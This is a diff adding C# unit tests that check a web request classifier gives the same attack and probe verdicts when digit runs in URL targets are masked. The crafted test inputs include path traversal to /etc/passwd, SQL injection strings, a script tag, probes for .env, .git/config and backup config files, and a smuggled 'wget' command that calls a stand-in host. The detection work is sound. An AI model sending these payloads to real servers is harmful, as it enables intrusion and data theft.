@@ -130,4 +130,90 @@ public sealed class WebVerdictsTests
         Assert.True(requests.Count > 10_000);
         Assert.True(events > 200, $"{events} hostile requests: the corpus should exercise every verdict");
     }
+
+    [Fact]
+    public void A_target_with_its_delimited_digit_runs_masked_holds_a_list_literal_exactly_when_the_target_does()
+    {
+        WebDefinitions web = SecurityDefinitions.Default.Web;
+        Assert.True(web.DigitBlindTargets); // the built-in lists allow the masked answers: the path below is taken
+        Assert.True(TargetDigits.LiteralsAreBlind(["%2e%2e", "w00tw00t", "a1", "%3c", "x9y"]));
+        Assert.False(TargetDigits.LiteralsAreBlind(["/1"]));
+        Assert.False(TargetDigits.LiteralsAreBlind(["7"]));
+        Assert.False(TargetDigits.LiteralsAreBlind(["id=12&"]));
+
+        // Random targets of the pieces that matter: the lists' own literals, digit runs, the delimiters, escapes, letters.
+        string[] literals = [.. web.Attacks.Literals, .. web.AlwaysProbePaths.Literals];
+        string[] pieces = ["0", "1", "22", "007", "12345", "/", "=", "&", "?", ".", "-", "_", ",", "%", "%2", "a", "e", "x", "v", "w", "id", ";", "'", "(", ":"];
+        var random = new Random(5);
+        var texts = Requests().Select(r => r.Target.ToString()).Where(t => t.Length > 0).ToList();
+        var builder = new System.Text.StringBuilder();
+        for (int i = 0; i < 200_000; i++)
+        {
+            builder.Clear();
+            for (int p = random.Next(1, 8); p > 0; p--)
+            {
+                builder.Append(random.Next(4) == 0 ? literals[random.Next(literals.Length)] : pieces[random.Next(pieces.Length)]);
+            }
+
+            texts.Add(builder.ToString());
+        }
+
+        int masked = 0, withLiteral = 0;
+        foreach (string text in texts)
+        {
+            var buffer = new char[text.Length];
+            int length = TargetDigits.Mask(text, buffer);
+            if (length < 0)
+            {
+                continue;
+            }
+
+            masked++;
+            string form = new(buffer, 0, length);
+            foreach (var list in new[] { web.Attacks, web.AlwaysProbePaths })
+            {
+                Assert.True(list.MayMatch(text) == list.MayMatch(form), $"'{text}' → '{form}'");
+                withLiteral += list.MayMatch(text) ? 1 : 0;
+            }
+        }
+
+        Assert.True(masked > 20_000 && withLiteral > 10_000, $"{masked} masked, {withLiteral} with a literal");
+    }
+
+    [Fact]
+    public void Targets_answered_by_their_masked_form_classify_as_matching_afresh_does()
+    {
+        WebDefinitions web = SecurityDefinitions.Default.Web;
+        var verdicts = new WebVerdicts();
+        var synthetic = new SyntheticLogs(31);
+        var requests = new List<WebRequest>();
+        var context = new DecodeContext("access.log");
+        for (int i = 0; i < 30_000; i++)
+        {
+            var (_, file, text) = synthetic.Next();
+            if (file == 0 && AccessLogDecoder.Instance.TryDecode(text, context, out LogRecord? record) && AccessLogDecoder.TryReadParts(record, out var parts))
+            {
+                requests.Add(WebRequest.Of(parts));
+            }
+        }
+
+        // Ids beside attacks and probe paths: the digits are masked, the literals are not.
+        string[] crafted =
+        [
+            "/items/1", "/items/22", "/items/1/../../etc/passwd", "/items/22/..%2f..%2fetc/passwd", "/p?id=1", "/p?id=1%27%20or%201=1--",
+            "/p?id=2'or'1'='1", "/p?q=1&x=<script>", "/1/.env", "/22/.git/config", "/a/3/wp-config.php.bak", "/v1/eval-stdin.php",
+            "/s?x=7;wget http://e/1", "/w00tw00t/1", "/static/1.2.3/app.js", "/f?a=1,2,3", "/-1/_2_/", "http://h:8080/a/1", "http://h/.env/1",
+        ];
+        requests.AddRange(crafted.Select(t => new WebRequest("192.0.2.1".AsMemory(), "GET".AsMemory(), t.AsMemory(), default, 404, default)));
+        requests.AddRange(Requests());
+        foreach (WebRequest request in requests)
+        {
+            var fresh = WebRequestClassifier.Classify(request, web, out var freshTarget);
+            var remembered = WebRequestClassifier.Classify(request, web, out var rememberedTarget, verdicts);
+            Assert.True(fresh == remembered, $"{request.Target}: {fresh} fresh, {remembered} remembered");
+            Assert.Equal(freshTarget.ToString(), rememberedTarget.ToString());
+        }
+
+        Assert.True(verdicts.MaskedAnswers > 1_000, $"{verdicts.MaskedAnswers} targets answered by their masked form");
+    }
 }
